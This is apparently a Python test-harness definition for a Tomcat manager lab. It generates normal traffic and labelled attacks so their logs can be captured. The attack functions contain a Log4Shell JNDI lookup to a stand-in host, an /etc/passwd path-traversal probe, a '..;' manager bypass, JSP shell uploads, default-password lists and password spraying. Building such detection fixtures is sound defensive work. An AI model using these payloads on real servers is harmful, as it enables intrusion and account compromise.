"""Tomcat with its manager application, whose realm locks accounts out (LockOutRealm), as in Debian's server.xml. Logs:
`localhost_access_log` in the common format and `catalina`, both as configured by the package."""

from runner import web
from runner.network import ATTACKERS, ATTACKERS6, OFFICE, ROAD, ROAD6
from runner.definition import Log, Service

SERVICE = Service(
    title="Apache Tomcat, servlet container",
    packages=["tomcat10", "tomcat10-admin", "default-jre-headless"],
    hostname="apps",
    logs=[Log("access", "/var/log/tomcat10/access.log"), Log("catalina", "/var/log/tomcat10/catalina.log")],
    limit=300,
)
ACCOUNTS = {"anna": "Fjord-Kiesel-77", "bruno": "Tal-Birke-31", "carla": "Ufer-Moos-58", "deploy": "Damm-Heide-94"}
GUESSER, SPRAYER, STRANGER, DEFAULTS, HOST, WITHOUT, SCANNER, UPLOADER, RAW, DROPPER = ATTACKERS[:10]
GUESSER6 = ATTACKERS6[0]
ENVIRONMENT = {"CATALINA_HOME": "/usr/share/tomcat10", "CATALINA_BASE": "/var/lib/tomcat10",
               "CATALINA_TMPDIR": "/tmp", "JAVA_HOME": "/usr/lib/jvm/default-java",
               "JAVA_OPTS": "-Djava.awt.headless=true -Xmx128m"}


def roles(account):
    """What an account may do."""
    return "manager-script" if account == "deploy" else "manager-gui,admin-gui"


@SERVICE.prepared
def prepare(machine):
    users = "".join(f'  <user username="{name}" password="{word}" roles="{roles(name)}"/>\n' for name, word in ACCOUNTS.items())
    machine.write("/etc/tomcat10/tomcat-users.xml", f"<tomcat-users>\n{users}</tomcat-users>\n", 0o640, "root:tomcat")
    # One file for all days, which the capture can name, for both logs.
    machine.replace("/etc/tomcat10/server.xml", 'prefix="localhost_access_log" suffix=".txt"',
                    'prefix="access" suffix=".log" rotatable="false" buffered="false"')
    machine.append("/etc/tomcat10/logging.properties", """
1catalina.org.apache.juli.AsyncFileHandler.prefix = catalina
1catalina.org.apache.juli.AsyncFileHandler.suffix = .log
1catalina.org.apache.juli.AsyncFileHandler.rotatable = false
""")
    machine.write("/var/lib/tomcat10/webapps/ROOT/index.html", "<h1>page</h1>\n", owner="tomcat")
    machine.run("install", "-d", "-o", "tomcat", "/var/log/tomcat10")


@SERVICE.started
def start(machine):
    machine.daemon("/usr/share/tomcat10/bin/catalina.sh", "run", port=8080, env=ENVIRONMENT, user="tomcat")
    machine.wait(lambda: "Server startup in" in machine.run("tail", "-n", "3", "/var/log/tomcat10/catalina.log"), "Tomcat")


def get(session, address, path, status, account=None, password="", **options):
    """One request that must be answered with a status."""
    answer = web.request(session, address, path, 8080, account=account, password=password, **options)
    assert answer.status == status, (path, answer.status)
    return answer


def attempt(session, address, account, password, path="/manager/html"):
    """One refused login."""
    get(session, address, path, 401, account, password)
    session.refused(address)


def work(session, address, account):
    """A login to the manager and some of its pages."""
    word = ACCOUNTS[account]
    get(session, address, "/manager/html", 401)
    for path in ("/manager/html", "/manager/status", "/manager/images/tomcat.svg"):
        get(session, address, path, 200, account, word)
    session.logged_in(address)


@SERVICE.benign
def benign(session):
    """People read pages and manage; one mistypes; a script lists applications; somebody opens a page of another role; a
    monitor asks; restart."""
    for address in (OFFICE[2], ROAD[1], ROAD6[0]):
        get(session, address, "/", 200)
        get(session, address, "/favicon.ico", 404)
        get(session, address, "/index.html", 200)
    work(session, OFFICE[0], "anna")
    attempt(session, ROAD[0], "bruno", "Tal-Birke-13")
    work(session, ROAD[0], "bruno")
    work(session, ROAD6[0], "carla")
    for command in ("list", "serverinfo", "list", "reload?path=/"):
        get(session, OFFICE[3], f"/manager/text/{command}", 200, "deploy", ACCOUNTS["deploy"])
    session.logged_in(OFFICE[3])
    get(session, OFFICE[3], "/manager/html", 403, "deploy", ACCOUNTS["deploy"])
    for _ in range(3):
        get(session, OFFICE[9], "/", 200, method="HEAD", headers={"User-Agent": "check_http/v2.3.3"})
    session.drop(OFFICE[9], 8080, 2, read_banner=False)
    session.machine.restart()
    work(session, OFFICE[0], "anna")
    work(session, ROAD[0], "bruno")


@SERVICE.attack(GUESSER)
def guess_one_account(session):
    """One address tries passwords for one account, until the realm locks it."""
    for number in range(14):
        attempt(session, GUESSER, "anna", f"anna{number}")


@SERVICE.attack(SPRAYER)
def spray(session):
    """One address tries one password for many accounts, of which some exist."""
    names = [*ACCOUNTS, "admin", "root", "tomcat", "office", "manager", "info", "user", "guest", "backup"]
    session.at_once(lambda name: attempt(session, SPRAYER, name, "Winter2026!"), names)


@SERVICE.attack(STRANGER)
def unknown_users(session):
    """One address tries accounts that do not exist."""
    names = ["administrator", "root2", "test", "web", "webmaster", "jenkins", "role1", "demo", "oracle", "pi", "java"]
    session.at_once(lambda name: attempt(session, STRANGER, name, name), names)


@SERVICE.attack(DEFAULTS)
def default_passwords(session):
    """One address tries the passwords of examples and distributions for one account."""
    words = ["tomcat", "s3cret", "admin", "password", "manager", "role1", "changethis", "Password1", "root", "r00t",
             "toor", "tomcat123", "<must-be-changed>"]
    for word in words:
        attempt(session, DEFAULTS, "tomcat", word)


@SERVICE.attack(GUESSER6)
def guess_over_ipv6(session):
    """One address of version 6 tries passwords for one account."""
    for number in range(12):
        attempt(session, GUESSER6, "bruno", f"bruno{number}")


@SERVICE.attack(HOST)
def guess_for_deployment(session):
    """One address tries passwords at the manager's interface for scripts and at the host manager."""
    for number in range(12):
        path = ("/manager/text/list", "/host-manager/html")[number % 2]
        attempt(session, HOST, "deploy", f"deploy{number}", path)


@SERVICE.attack(WITHOUT)
def without_account(session):
    """One address asks for the manager's pages without an account."""
    for number in range(12):
        path = ("/manager/html", "/manager/text/list", "/manager/jmxproxy", "/host-manager/html")[number % 4]
        get(session, WITHOUT, path, 401)
        session.acted(WITHOUT, "page without authentication")


@SERVICE.attack(SCANNER)
def paths(session):
    """One address asks for files of other programs and above the root of the site, as scanners do."""
    probes = ["/.env", "/.git/config", "/struts2-showcase/index.action", "/axis2/axis2-admin/", "/jmx-console/",
              "/web-console/", "/solr/admin/", "/actuator/env", "/examples/servlets/", "/invoker/JMXInvokerServlet",
              "/jenkins/login", "/WEB-INF/web.xml", "/%2e%2e/%2e%2e/etc/passwd", "/..;/manager/html", "/cgi-bin/test.cgi"]

    def probe(path):
        answer = web.request(session, SCANNER, path, 8080, headers={"User-Agent": "Mozilla/5.0 zgrab/0.x"})
        assert answer.status in (400, 401, 403, 404), (path, answer.status)
        session.acted(SCANNER, "path probed")

    session.at_once(probe, probes * 2)


@SERVICE.attack(UPLOADER)
def uploads(session):
    """One address tries to write pages and applications."""
    for number in range(6):
        assert web.request(session, UPLOADER, f"/shell{number}.jsp/", 8080, "PUT", body="<% %>").status in (403, 404, 405)
        session.acted(UPLOADER, "upload denied")
        get(session, UPLOADER, f"/manager/text/deploy?path=/x{number}", 401, "tomcat", "tomcat", method="PUT", body="x")
        session.refused(UPLOADER)


@SERVICE.attack(RAW)
def malformed(session):
    """One address sends what is no HTTP, or targets with characters that are not allowed."""
    lines = [bytes.fromhex("160301006c010000680303") + bytes(range(60)), b"GET\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n",
             b"GET /${jndi:ldap://203.0.113.99/a} HTTP/1.1\r\nHost: apps\r\n\r\n", b"SSH-2.0-probe\r\n\r\n",
             b"GET / HTTP/1.1\r\n\r\n", b"GET /?q=<script> HTTP/1.1\r\nHost: apps\r\n\r\n"]
    for data in lines * 2:
        web.raw(session, RAW, 8080, data)
        session.acted(RAW, "malformed request")


@SERVICE.attack(DROPPER)
def connect_and_drop(session):
    """One address connects and leaves, without a word or within a request."""
    session.drop(DROPPER, 8080, 8, read_banner=False)
    for _ in range(6):
        with session.connect(DROPPER, 8080) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nHost: apps.example.org\r\nX-")
        session.acted(DROPPER, "request left unfinished")
